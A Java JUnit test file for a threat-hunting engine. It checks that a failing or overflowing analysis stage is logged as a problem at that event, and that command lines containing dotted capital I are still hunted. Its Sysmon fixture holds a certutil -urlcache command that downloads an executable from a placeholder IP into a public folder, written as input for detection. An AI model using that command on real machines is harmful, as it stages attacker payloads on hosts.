package org.gamekeeper.engine.hunt;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.gamekeeper.engine.Alert;
import org.gamekeeper.engine.Event;
import org.gamekeeper.engine.Problem;
import org.gamekeeper.engine.baseline.LotlTools;
import org.gamekeeper.engine.baseline.RarityStage;
import org.gamekeeper.engine.source.JsonSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 22: a bug a hostile event drives a stage into is a problem at that event, never the end
 * of the run. Found on a command line holding İ (U+0130), which the rarity stage's command shape
 * threw on, so that the hunt stopped with an internal error and wrote nothing.
 */
class HuntGuardTest {

    @TempDir
    Path dir;

    private static final String DOTTED = "{\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Hostname\": \"WS01\","
            + " \"TimeCreated\": \"2024-05-01T10:00:00.000Z\", \"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\","
            + " \"CommandLine\": \"certutil -urlcache -f http://198.51.100.7/\u0130\u0130\u0130\u0130 C:\\\\Users\\\\Public\\\\a.exe\","
            + " \"ParentImage\": \"C:\\\\Windows\\\\explorer.exe\", \"User\": \"CORP\\\\alice\"}";

    private static Event event() {
        List<Event> events = new ArrayList<>();
        new JsonSource().read("e.json", new ByteArrayInputStream(DOTTED.getBytes(StandardCharsets.UTF_8)), events::add, p -> { });
        assertEquals(1, events.size());
        return events.get(0);
    }

    @Test
    void aStageThatThrowsOrOverflowsOnAnEventIsAProblemThere() {
        Event e = event();
        List<Problem> problems = new ArrayList<>();
        Hunt.guarded(e, "rule evaluation", () -> {
            throw new IllegalStateException("a bug");
        }, problems::add);
        Hunt.guarded(e, "rarity stage", HuntGuardTest::deeper, problems::add);
        List<String> ran = new ArrayList<>();
        Hunt.guarded(e, "IOC match", () -> ran.add("next stage"), problems::add);
        assertEquals(List.of("next stage"), ran);
        assertEquals(2, problems.size(), problems.toString());
        assertEquals("e.json", problems.get(0).file());
        assertEquals(e.line(), problems.get(0).line());
        assertTrue(problems.get(0).what().contains("rule evaluation") && problems.get(0).what().contains("IllegalStateException: a bug")
                && problems.get(0).what().contains(e.ref()), problems.get(0).what());
        assertTrue(problems.get(1).what().contains("rarity stage") && problems.get(1).what().contains("StackOverflowError"),
                problems.get(1).what());
    }

    private static void deeper() {
        deeper();
    }

    @Test
    void aCommandLineHoldingDottedCapitalIIsHuntedWithTheRarityStage() throws IOException {
        Path f = dir.resolve("dotted.json");
        Files.writeString(f, DOTTED + "\n" + DOTTED.replace("10:00:00", "10:00:05").replace("\u0130\u0130\u0130\u0130", "b.exe") + "\n");
        HuntFixture.Result r = HuntFixture.hunt(HuntFixture.rules(org.gamekeeper.engine.detect.BuiltinPack.texts()), 1,
                RarityStage.withinData(LotlTools.builtin(), 1000), f.toString());
        assertEquals(List.of(), r.problems());
        assertTrue(r.alerts().stream().filter(a -> a.kind() == Alert.Kind.RULE).map(a -> a.eventRefs().get(0)).distinct().count() == 2,
                r.alerts().toString());
    }
}
